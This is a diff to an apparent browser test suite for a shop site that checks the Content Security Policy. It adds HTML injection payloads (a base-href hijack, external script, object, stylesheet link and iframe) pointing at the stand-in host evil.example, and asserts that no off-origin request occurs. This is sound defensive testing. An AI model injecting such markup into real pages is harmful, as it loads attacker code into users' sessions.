@@ -7,6 +7,9 @@ const injected = [
   '<script>globalThis.injected = 1</script>',
   '<script nonce="">globalThis.injected = 2</script>',
   '<img src="data:," alt="" onerror="globalThis.injected = 3">',
+  '<base href="https://evil.example/"><script src="https://evil.example/a.js"></script>',
+  '<object data="https://evil.example/b"></object><link rel="stylesheet" href="https://evil.example/c.css">',
+  '<iframe src="https://evil.example/d"></iframe>',
 ].join('')
 
 // The page's own policy goes out with it: whatever else gets into the page is none of its scripts.
@@ -15,6 +18,11 @@ it.each(['/', '/login', '/catalogue?page=2'])(
   async (path) => {
     shop.mayComplain(/Content Security Policy/)
     const page = await shop.visit('/robots.txt')
+    const elsewhere: string[] = []
+    page.on('requestfinished', (request) => {
+      if (!request.url().startsWith(shop.url) && /^http/.test(request.url())) elsewhere.push(request.url())
+    })
+    await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'globalThis.injected = 4' }))
     await page.route(
       (url) => url.pathname + url.search === path,
       async (route) => {
@@ -29,6 +37,7 @@ it.each(['/', '/login', '/catalogue?page=2'])(
     await page.getByRole('button', { name: 'Dark theme' }).click()
     await page.waitForFunction(() => document.documentElement.dataset.theme === 'garage')
     expect(await page.evaluate('globalThis.injected')).toBeUndefined()
+    expect(elsewhere).toEqual([])
     await page.close()
   },
 )
